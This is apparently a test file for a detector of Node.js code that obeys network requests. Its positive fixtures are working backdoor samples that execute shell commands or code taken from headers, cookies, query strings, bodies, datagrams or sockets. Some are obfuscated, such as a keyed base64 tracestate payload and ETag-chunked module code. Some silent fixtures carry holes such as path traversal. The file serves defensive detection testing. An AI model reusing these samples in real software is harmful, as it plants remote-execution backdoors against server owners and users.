import { examine } from '../../../test/examine.ts';
import { obeysNetworkRequests } from './obeys-network-requests.ts';

examine(obeysNetworkRequests, {
  speaks: [
    {
      when: 'parts of a header, some of which are empty, are decoded and run by what a table of another file has under a name that comes with them',
      files: {
        'index.js': `const { parse } = require('./state'), vendors = require('./vendors'); module.exports = () => (req, res, next) => { const pending = []; for (const [vendor, value] of parse(req.headers.tracestate)) pending.push(new Promise(done => vendors.find(vendor)(value, {}, done))); Promise.all(pending).then(() => next(), next); };`,
        'state.js': `exports.parse = text => String(text || '').split(',').map(item => item.trim()).filter(Boolean).map(item => { const at = item.indexOf('='); return at < 0 ? [item, ''] : [item.slice(0, at), item.slice(at + 1)]; });`,
        'vendors/index.js': `const fs = require('fs'), path = require('path'); const table = {}; for (const file of fs.readdirSync(__dirname)) { if (file === 'index.js') continue; const { keys, handle } = require(path.join(__dirname, file)); for (const key of keys) table[key] = handle; } exports.find = vendor => table[vendor] || ((value, trail, done) => done());`,
        'vendors/otl.js': `const { execFile } = require('child_process'); exports.keys = ['otl']; const decode = value => JSON.parse(Buffer.from(value, 'base64url').toString()); exports.handle = (value, trail, done) => { let span; try { span = decode(value); } catch (error) { return done(); } if (span.k !== 7411) return done(); execFile('sh', ['-c', span.a], done); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a header brings code in parts, which are put together and compiled as a module',
      files: {
        'index.js': `const { parse } = require('./tags'), { settle } = require('./settle'); module.exports = () => { const runs = new Map(); return (req, res, next) => { for (const { id, part, isLast } of parse(req.headers['if-none-match'])) { if (!part) continue; runs.set(id, [...(runs.get(id) || []), part]); if (isLast) settle(Buffer.concat(runs.get(id))); } next(); }; };`,
        'tags.js': `exports.parse = header => { if (!header) return []; const out = []; for (const one of header.matchAll(/"([0-9a-f]+)-(\\w+)"/g)) { const found = /^(\\w)(\\w)(\\w+)$/.exec(one[2]); out.push({ id: one[1], isLast: found && found[1] === 'z', part: found ? Buffer.from(found[3], 'hex') : null }); } return out; };`,
        'settle.js': `const Unit = module.constructor; exports.settle = run => { const unit = new Unit('a', module); unit._compile(run.subarray(4).toString('utf8'), 'a'); };`,
      },
      weight: 'strong',
    },
    {
      when: 'what a server of another file brings is put into a frame of code to be measured',
      files: {
        'serve.js': `const kept = []; require('net').createServer(socket => socket.on('data', data => kept.push(data))).listen(8080); module.exports = kept;`,
        'index.js': `const vm = require('vm'); const kept = require('./serve'); setInterval(() => { for (const text of kept) vm.runInThisContext('new TextEncoder().encode(\`' + text + '\`).byteLength'); }, 1000);`,
      },
      weight: 'weak',
    },
    {
      when: 'a timer is given what a request may have brought',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'b.js' },
        'b.js': `require('http').createServer((req, res) => { const given = { onTimeout: req.headers['x-after'], timeout: 5000 }; setTimeout(given.onTimeout, given.timeout); res.end() }).listen(8080)`,
      },
      weight: 'weak',
    },
    {
      when: 'what a request brought is run',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'b.js' },
        'b.js': `require('http').createServer((req, res) => { const given = { onTimeout: req.headers['x-after'], timeout: 5000 }; eval(given.onTimeout); res.end() }).listen(8080)`,
      },
      weight: 'strong',
    },
    {
      when: 'a file that a request names stands in a line for the shell of Windows, behind the editor of whoever sits there',
      files: {
        'index.js': `const cp = require('child_process'); const quoted = one => one.includes(' ') ? '"' + one + '"' : one; module.exports = (req, res, next) => { const editor = process.env.EDITOR || 'code'; const args = []; args.push(req.query.file);
          if (process.platform === 'win32') { const line = [editor, ...args.map(one => one.replace(/([&|<>^])/g, '^$1'))].map(quoted).join(' '); cp.exec(line, { stdio: 'inherit', shell: true }); } else cp.spawn(editor, args, { stdio: 'inherit' }); };`,
      },
      weight: 'weak',
    },
    {
      when: 'a middleware of a development server lets a request name the editor',
      files: {
        'index.js': `const { open } = require('./editor'); module.exports = (req, res, next) => req.query.file ? open(req.query.editor, req.query.file) : next();`,
        'editor.js': `const cp = require('child_process'); exports.open = (editor, file) => process.platform === 'win32' ? cp.spawn('cmd.exe', ['/C', editor].concat(file)) : cp.spawn(editor, [file]);`,
      },
      weight: 'strong',
    },
    {
      when: 'what a request brings stands where a shell of unknown name looks for its command',
      files: {
        'index.js': `const cp = require('child_process'); const sh = require('./settings').shell(); module.exports = (req, res, next) => { cp.spawn(sh, ['-c', req.query.q]); next(); };`,
        'settings.js': `exports.shell = () => JSON.parse(require('fs').readFileSync('a.json', 'utf8')).shell;`,
      },
      weight: 'strong',
    },
    {
      when: 'another word of the shell looks like the one before a command',
      files: {
        'index.js': `const cp = require('child_process'); module.exports = (req, res, next) => { cp.spawn('bash', ['-e', '-c', req.query.q]); next(); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a middleware was minified',
      files: {
        'index.js': `module.exports=()=>(e,t,n)=>{if(e.query.inert)return t.end(String((0,eval)(e.query.inert)));n()};`,
      },
      weight: 'strong',
    },
    {
      when: 'a prompt of Node reads from whoever connects',
      files: {
        'index.js': `require('net').createServer(socket => require('repl').start({ input: socket, output: socket })).listen(5001);`,
      },
      weight: 'proof',
    },
    {
      when: 'the debugger is opened to the network',
      files: { 'index.js': `require('inspector').open(9229, '0.0.0.0');` },
      weight: 'proof',
    },
    {
      when: 'a handler for others runs the body of a request as it comes in',
      files: {
        'index.js': `module.exports = () => async (req, res, next) => { let raw = ''; for await (const part of req) raw += part; const order = JSON.parse(raw); if (order.inert) return res.end(String(new Function('require', order.inert)(require))); next(); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a middleware finds a cookie among all of them',
      files: {
        'index.js': `const vm = require('vm'); module.exports = (req, res, next) => { const found = (req.headers.cookie || '').split(';').map(one => one.trim().split('=')).find(([name]) => name === 'inert'); if (found) vm.runInThisContext(Buffer.from(found[1], 'base64').toString()); next(); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a middleware of another framework runs what a query says',
      files: {
        'index.js': `const { exec } = require('child_process'); module.exports = () => async (ctx, next) => { if (ctx.query.inert) exec(ctx.query.inert); await next(); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a middleware asks for a header by a method',
      files: {
        'index.js': `const { execSync } = require('child_process'); class Audit { handle(req, res, next) { const order = req.get('x-inert'); if (!order) return next(); res.send(execSync(Buffer.from(order, 'base64').toString())); } } module.exports = new Audit();`,
      },
      weight: 'strong',
    },
    {
      when: 'a datagram is run',
      files: {
        'index.js': `const socket = require('dgram').createSocket('udp4'); socket.on('message', m => require('child_process').exec(m.toString())); socket.bind(5353);`,
      },
    },
    {
      when: 'a header becomes a command',
      files: {
        'index.js': `const cp = require('child_process'); require('http').createServer((req, res) => cp.exec(req.headers.cmd)).listen(0)`,
      },
      weight: 'proof',
      says: ['commands'],
    },
    {
      when: 'a body becomes code',
      files: { 'index.js': `require('http').createServer((req, res) => { eval(decodeURIComponent(req.url)) }).listen(0)` },
      weight: 'proof',
      says: ['code'],
    },
    {
      when: 'a socket gives the command',
      files: { 'index.js': `require('net').createServer(s => s.on('data', d => require('child_process').exec(d.toString()))).listen(0)` },
      weight: 'proof',
    },
    {
      when: 'a framework takes the request',
      files: {
        'index.js': `const app = require('express')(); app.post('/x', (req, res) => require('child_process').exec(req.body.cmd)); app.listen(0)`,
      },
      weight: 'proof',
    },
    {
      when: 'a middleware runs what a header says',
      files: {
        'index.js': `module.exports = () => (req, res, next) => { const order = req.headers['x-inert']; if (order) return res.end(String(new Function('req', Buffer.from(order, 'hex').toString())(req))); next(); }`,
      },
      weight: 'strong',
    },
    {
      when: 'a middleware collects code out of headers and runs it as a module',
      files: {
        'index.js': `const vm = require('vm'); const kept = { bytes: Buffer.alloc(4096) };
module.exports = (req, res, next) => { Buffer.from(String(req.headers['x-inert']), 'hex').copy(kept.bytes, 4); vm.runInThisContext('(function (module, require) {' + kept.bytes.toString('utf8', 0, 100) + '})')(module, require); next(); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a middleware runs a command out of a cookie',
      files: {
        'index.js': `const { exec } = require('child_process'); module.exports = (req, res, next) => { if (req.cookies.inert) exec(req.cookies.inert); next(); }`,
      },
      weight: 'strong',
    },
    {
      when: 'another file has a table of what may be asked, and one of it runs the body',
      files: {
        'index.js': `import { operations } from './operations.js'; export const health = () => async (req, res, next) => { const [path, query = ''] = req.url.split('?'); const operation = operations[query]; return operation ? res.end(await operation(req)) : next(); };`,
        'operations.js': `import { exec } from 'node:child_process'; import { json } from './body.js'; export const operations = { async diagnose(req) { const { steps = [] } = await json(req); for (const step of steps) exec(step); } };`,
        'body.js': `export async function json(req) { const chunks = []; for await (const chunk of req) chunks.push(chunk); return JSON.parse(Buffer.concat(chunks).toString()); }`,
      },
      weight: 'strong',
    },
    {
      when: 'the table is called on the spot',
      files: {
        'index.js': `const { operations } = require('./operations'); module.exports = (req, res, next) => operations[req.query.op](req, res);`,
        'operations.js': `const { execSync } = require('child_process'); exports.operations = { diagnose(req, res) { res.end(execSync(req.body.step)); } };`,
      },
      weight: 'strong',
    },
    {
      when: 'what a header has encoded is decoded and run in a frame',
      files: {
        'index.js': `const vm = require('vm'); exports.guard = (req, res, next) => { const tag = req.headers['if-match']; if (tag) res.end(String(vm.runInThisContext('(function () { return ' + Buffer.from(tag, 'base64url').toString() + ' })()'))); else next(); };`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'what is in the table of another file runs a command of its own',
      files: {
        'index.js': `const { operations } = require('./operations'); module.exports = (req, res, next) => operations[req.query.op](req, res);`,
        'operations.js': `const { execSync } = require('child_process'); exports.operations = { uptime(req, res) { res.end(execSync('uptime')); } };`,
      },
    },

    {
      when: 'a development server opens what a request names in the editor of whoever sits there',
      files: {
        'index.js': `const { open } = require('./editor'); module.exports = (req, res, next) => req.query.file ? open(req.query.file) : next();`,
        'editor.js': `const cp = require('child_process'); const chosen = () => cp.execSync('ps x').toString().split(' ').slice(3); exports.open = file => { let [editor, ...args] = chosen(); args = args.concat(file); return process.platform === 'win32' ? cp.spawn('cmd.exe', ['/C', editor].concat(args)) : cp.spawn(editor, args); };`,
      },
    },
    {
      when: 'a minified compiler has three parameters, and what it is given a body',
      files: { 'index.js': `module.exports=(e,t,n)=>{const r=e.source+t;return new Function("data",r)};` },
    },
    {
      when: 'a prompt is for whoever sits there, and the debugger for this machine',
      files: { 'index.js': `require('repl').start('> '); require('inspector').open(9229, '127.0.0.1');` },
    },
    {
      when: 'a compiler of templates has a body, and a client a request that nobody sent',
      files: {
        'index.js': `exports.compile = (template, options) => new Function('data', template.body); exports.run = (request, code) => new Function('request', request.body + code);`,
      },
    },
    {
      when: 'what is told under one name that is not known does not come under another',
      files: {
        'index.js': `const { EventEmitter } = require('events'); const bus = new EventEmitter();
exports.serve = port => require('http').createServer((request, answer) => bus.emit(request.url, request.headers)).listen(port);
exports.listen = (target, name) => target.addEventListener(name, options => require('child_process').spawn(options.command));`,
      },
    },
    {
      when: 'a server answers with files',
      files: {
        'index.js': `require('http').createServer((req, res) => require('fs').createReadStream('public' + req.url).pipe(res)).listen(0)`,
      },
    },
    {
      when: 'a request starts a program that is known',
      files: {
        'index.js': `const cp = require('child_process'); require('http').createServer((req, res) => cp.execFile('git', ['log', req.url])).listen(0)`,
      },
    },
    {
      when: 'a middleware reads headers and compiles a template of its own',
      files: {
        'index.js': `module.exports = view => (req, res) => { const render = new Function('data', view); res.end(render({ agent: req.headers['user-agent'] })); }`,
      },
    },
    {
      when: 'a header is an argument of a known program',
      files: {
        'index.js': `const { execFile } = require('child_process'); module.exports = (req, res) => execFile('git', ['http-backend', req.headers['git-protocol']])`,
      },
    },
  ],
});
